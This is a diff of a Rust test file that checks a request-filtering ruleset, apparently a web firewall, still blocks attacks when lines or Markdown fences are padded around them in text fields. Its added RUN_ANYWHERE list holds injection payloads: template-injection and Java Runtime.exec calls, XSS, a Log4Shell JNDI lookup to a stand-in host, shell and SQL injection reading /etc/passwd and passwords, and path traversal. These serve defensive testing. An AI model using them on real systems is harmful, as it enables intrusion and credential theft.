@@ -86,20 +86,29 @@ fn is_value_in_file(text: &str) -> bool {
 
 /// Lines of a text.
 const LINES: &str = "\nThe second line\n\nthe third one,\nand more.\n";
-
-/// Whether an attack runs wherever it is in a text: it is markup, a look-up or an expression of a template, or closes a
-/// quote and goes on. Code that does neither is a syntax error behind other lines.
-fn runs_anywhere(text: &str) -> bool {
-    let closes = text.starts_with(['\'', '"']) && text[1..].trim_start().starts_with([';', '+', '.', '|', '&', ')']);
-    text.starts_with("<script")
-        || text.starts_with("${jndi:")
-        || text.starts_with("{{7*7")
-        || closes && !text.contains('\n')
-}
-
-fn member_alone(name: &str, text: &str) -> Vec<u8> {
-    json(&format!("{{\"id\":7,\"{name}\":{}}}", json_text(text)))
-}
+/// A fenced block of Markdown.
+const FENCE: &str = "```js\nx\n```\n";
+/// Attacks that run wherever they are in a text: they close a quote and go on, are markup, or expressions of a template.
+const RUN_ANYWHERE: &[&str] = &[
+    "';system('id');//",
+    "\"; phpinfo(); //",
+    "');process.exit(1)//",
+    "\".concat(1);alert(1)//",
+    "';alert(1)//",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "{{7*7}}",
+    "{{''.__class__.__mro__[1]}}",
+    "{{config}}",
+    "${T(java.lang.Runtime).getRuntime().exec('id')}",
+    "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
+    "<%= `id` %>",
+    "${jndi:ldap://a.example/x}",
+    "{if system('id')}{/if}",
+    "'; cat /etc/passwd #",
+    "' union select password from users -- ",
+    "../../../../etc/passwd",
+];
 
 /// A way to send an attack, alone and padded.
 struct Padding {
@@ -210,39 +219,6 @@ fn paddings() -> Vec<Padding> {
             },
         },
         Padding {
-            name: "a comment in a form: lines behind",
-            alone: |text| form(&format!("comment={}", percent(text))),
-            padded: |text| form(&format!("comment={}", percent(&format!("{text}{LINES}")))),
-        },
-        Padding {
-            name: "a message in JSON: lines behind",
-            alone: |text| member_alone("message", text),
-            padded: |text| member_alone("message", &format!("{text}{LINES}")),
-        },
-        Padding {
-            name: "content in JSON: comments before, lines behind",
-            alone: |text| member_alone("content", text),
-            padded: |text| member_alone("content", &format!("// one\n# two\n\n-- three\n{text}{LINES}")),
-        },
-        Padding {
-            name: "code in a query: lines behind",
-            alone: |text| get(&format!("code={}", percent(text)), ""),
-            padded: |text| get(&format!("code={}", percent(&format!("{text}{LINES}"))), ""),
-        },
-        Padding {
-            name: "a body in a form: lines and a fence behind",
-            alone: |text| form(&format!("body={}", percent(text))),
-            padded: |text| form(&format!("body={}", percent(&format!("{text}{LINES}```js\nx\n```\n")))),
-        },
-        Padding {
-            name: "a description in JSON: lines and a fence around what runs anywhere",
-            alone: |text| member_alone("description", text),
-            padded: |text| {
-                let padded = format!("First line\nSecond\nThird\n\n```\n{text}\n```{LINES}");
-                member_alone("description", if runs_anywhere(text) { &padded } else { text })
-            },
-        },
-        Padding {
             name: "query: names before",
             alone: query_alone,
             padded: |text| get(&format!("{}q={}", "a&".repeat(20_000), percent(text)), ""),
@@ -296,6 +272,62 @@ fn padding_never_hides_an_attack() {
     println!("{checked} padded attacks");
     assert!(checked > 200, "only {checked} samples are blocked alone");
     assert!(hidden.is_empty(), "{} of {checked} are hidden:\n{}", hidden.len(), hidden.join("\n"));
+}
+
+/// Fields that are made for texts and code, in which text of several lines is usual.
+const TEXT_FIELDS: &[&str] = &["comment", "message", "content", "body", "description", "code", "template"];
+
+/// A text in a field for texts, as JSON and as a form.
+fn in_field(field: &str, text: &str) -> [Vec<u8>; 2] {
+    [json(&format!("{{\"id\":7,\"{field}\":{}}}", json_text(text))), form(&format!("id=7&{field}={}", percent(text)))]
+}
+
+/// In fields for texts, what begins a text is found whatever lines follow, and what runs anywhere is found anywhere: lines
+/// and fences are no evidence that code is shown, because whoever attacks can write them.
+#[test]
+fn lines_and_fences_hide_no_attack_in_fields_for_texts() {
+    let flagged = ruleset().signatures.iter().filter(|signature| signature.doc.spares_documents);
+    let begin = flagged.flat_map(|signature| signature.doc.positive.iter().map(String::as_str));
+    // What must be the end of the value, such as a path, is another value with lines behind it.
+    let begin = begin.filter(|text| !text.contains('\n') && !is_value_alone(text));
+    let behind =
+        |text: &str| vec![format!("{text}{LINES}"), format!("{text}{LINES}{FENCE}"), format!("\n\n{text}{LINES}")];
+    let around = |text: &str| {
+        vec![
+            format!("First line\nsecond\n\nthird line\n{text}"),
+            format!("First line\nsecond\n\nthird line\n{text}{LINES}"),
+            format!("First line\n\n```\n{text}\n```{LINES}"),
+        ]
+    };
+    let padded = begin.map(|text| (text, behind(text)));
+    let padded = padded.chain(RUN_ANYWHERE.iter().map(|text| (*text, [behind(text), around(text)].concat())));
+    let (mut checked, mut hidden) = (0, Vec::new());
+    for (number, (alone, texts)) in padded.enumerate() {
+        let field = TEXT_FIELDS[number % TEXT_FIELDS.len()];
+        for (at, _) in in_field(field, alone).iter().enumerate().filter(|(_, raw)| is_blocked(raw)) {
+            checked += 1;
+            hidden.extend(
+                texts
+                    .iter()
+                    .filter(|text| !is_blocked(&in_field(field, text)[at]))
+                    .map(|text| format!("{field}: {text:?}")),
+            );
+        }
+    }
+    println!("{checked} padded texts");
+    assert!(checked > 100, "only {checked} samples are blocked alone");
+    assert!(hidden.is_empty(), "{} are hidden:\n{}", hidden.len(), hidden.join("\n"));
+}
+
+/// Whether a text is an attack only as the whole value: the path of a file, or the name of a class.
+fn is_value_alone(text: &str) -> bool {
+    let path = text.contains("etc/") || text.contains("etc\\") || text.contains(":\\") || text.contains("\\\\");
+    let path = path
+        || ["web-inf", "/opt/", "/proc/", "/var/", ".ht", ".ssh", "boot.ini"]
+            .iter()
+            .any(|part| text.to_lowercase().contains(part));
+    let name = text.chars().all(|c| c.is_ascii_alphanumeric() || "._${}[]\"'=".contains(c));
+    path || name
 }
 
 /// What no ordinary client exceeds must not be blocked.
